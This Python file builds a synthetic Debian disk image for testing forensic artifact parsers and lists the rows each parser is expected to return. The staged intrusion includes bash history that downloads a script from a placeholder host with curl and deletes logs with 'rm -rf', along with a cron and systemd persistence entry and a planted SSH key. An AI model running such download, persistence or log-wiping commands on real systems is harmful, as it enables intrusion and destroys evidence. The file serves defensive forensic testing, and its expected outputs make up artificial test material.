"""A Linux-shaped ext4 volume, without a partition table, on which artifact functions yield rows that are known beforehand."""

from __future__ import annotations

import struct
from ipaddress import IPv4Address
from typing import TYPE_CHECKING, Any

from sample_images.commands import blank, mounted, pack, run, write_all
from sample_images.stated import StatedFile, stated, utc

if TYPE_CHECKING:
    from datetime import datetime
    from pathlib import Path

NAME = "linux"
_SIZE = 4 << 20
HOST = "evx-web01"
COMMANDS = ("sudo su -", "curl -O http://downloads.example/agent.sh", "rm -rf /var/log/agent")
# Time, user, terminal, host and process of two logins; the type is 7, USER_PROCESS (utmp(5)).
LOGINS = (
    (utc("2024-03-10 07:55:12"), "bob", "pts/0", "192.0.2.44", 1201),
    (utc("2024-03-10 22:01:40"), "root", "tty1", "", 1388),
)
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIEVpZGV4IHNhbXBsZSBrZXksIG5vdCBhIHJlYWwgb25l"
_USER_PROCESS = 7
_AUTH = (
    f"Mar 10 07:55:12 {HOST} sshd[1201]: Accepted password for bob from 192.0.2.44 port 50022 ssh2\n"
    f"Mar 10 07:56:30 {HOST} sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/su -\n"
    f"Mar 10 22:00:05 {HOST} sshd[1377]: Failed password for invalid user admin from 198.51.100.7 port 40022 ssh2\n"
)


def _utmp(when: datetime, user: str, line: str, host: str, process: int) -> bytes:
    """One entry of utmp as glibc writes it on 64-bit machines (utmp(5)), 384 bytes."""
    address = IPv4Address(host).packed if host else bytes(4)
    head = struct.pack("<hxxi32s4s32s256s", _USER_PROCESS, process, line.encode(), line.encode()[-4:], user.encode(), host.encode())
    return (head + struct.pack("<hhiii", 0, 0, 0, int(when.timestamp()), 0) + address).ljust(384, b"\0")


FILES: tuple[StatedFile, ...] = (
    stated("etc/hostname", f"{HOST}\n"),
    stated(
        "etc/os-release",
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nVERSION="12 (bookworm)"\nID=debian\n',
    ),
    stated("etc/debian_version", "12.5\n"),
    stated("etc/timezone", "Etc/UTC\n"),
    stated("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000:Bob,,,:/home/bob:/bin/bash\n"),
    stated("etc/group", "root:x:0:\nbob:x:1000:\n"),
    stated("etc/shadow", "root:*:19700:0:99999:7:::\nbob:!:19700:0:99999:7:::\n"),
    stated("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
    stated("var/spool/cron/crontabs/bob", "*/5 * * * * /home/bob/.cache/agent.sh\n"),
    stated("var/log/auth.log", _AUTH, at="2024-03-10 22:00:05"),
    stated("var/log/wtmp", b"".join(_utmp(*login) for login in LOGINS)),
    stated("home/bob/.bash_history", "".join(f"{command}\n" for command in COMMANDS)),
    stated("home/bob/.ssh/authorized_keys", f"ssh-ed25519 {KEY} mallory@example\n"),
    stated("home/bob/.cache/agent.sh", "#!/bin/sh\n# a script that does nothing\nexit 0\n"),
    stated("usr/lib/systemd/system/agent.service", "[Unit]\nDescription=Agent\n\n[Service]\nExecStart=/home/bob/.cache/agent.sh\n"),
    stated("opt/empty", ""),
)


def build(folder: Path, work: Path) -> None:
    """Makes the sample's image in `folder`."""
    disk = blank(work / f"{NAME}.dd", _SIZE)
    identity = ("-U", "0e71de00-0000-4000-8000-000000000007", "-L", "linux")
    run("mke2fs", "-q", "-t", "ext4", "-O", "^has_journal", "-b", "1024", "-N", "128", "-m", "0", *identity, disk)
    with mounted(disk, "ext4") as root:
        write_all(root, FILES, kind="ext4")
    pack(disk, folder / f"{disk.name}.xz")


def artifacts() -> dict[str, tuple[tuple[str, ...], list[dict[str, Any]]]]:
    """By artifact table, without its prefix: the columns that name a row, and the rows that the statement put there."""
    logins = [
        {"ut_pid": process, "ts": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "ut_user": user, "ut_line": line, "ut_host": host}
        for when, user, line, host, process in LOGINS
    ]
    accepted = {"ts": "2024-03-10T07:55:12Z", "service": "sshd", "pid": 1201, "user": "bob", "remote_ip": "192.0.2.44", "port": 50022}
    failed = {"ts": "2024-03-10T22:00:05Z", "service": "sshd", "pid": 1377, "remote_ip": "198.51.100.7", "port": 40022}
    sudo = {"ts": "2024-03-10T07:56:30Z", "service": "sudo", "pid": None, "effective_user": "root", "command": "/usr/bin/su -"}
    crontab, agent = ["17", "*", "*", "*", "*"], ["*/5", "*", "*", "*", "*"]
    when = ("minute", "hour", "day", "month", "weekday")
    return {
        "hostname": (("value",), [{"value": HOST}]),
        "version": (("value",), [{"value": "Debian GNU/Linux 12 (bookworm)"}]),
        "users": (
            ("uid",),
            [{"uid": 0, "name": "root", "home": "/root"}, {"uid": 1000, "name": "bob", "home": "/home/bob", "shell": "/bin/bash"}],
        ),
        "commandhistory": (("order",), [{"order": i, "command": command, "username": "bob"} for i, command in enumerate(COMMANDS)]),
        "wtmp": (("ut_pid",), logins),
        "authlog": (("ts",), [accepted, sudo, failed]),
        "cronjobs": (
            ("source_path", "record_type"),
            [
                {"source_path": "/etc/crontab", "record_type": "unix/cronjob", **dict(zip(when, crontab, strict=True))},
                {"source_path": "/etc/crontab", "record_type": "unix/environmentvariable", "key": "SHELL", "value": "/bin/sh"},
                {
                    "source_path": "/var/spool/cron/crontabs/bob",
                    "record_type": "unix/cronjob",
                    **dict(zip(when, agent, strict=True)),
                    "command": "/home/bob/.cache/agent.sh",
                },
            ],
        ),
        "services": (("name",), [{"name": "agent.service", "Service_ExecStart": "/home/bob/.cache/agent.sh"}]),
        "ssh_authorized_keys": (("path",), [{"path": "/home/bob/.ssh/authorized_keys", "comment": "mallory@example"}]),
    }
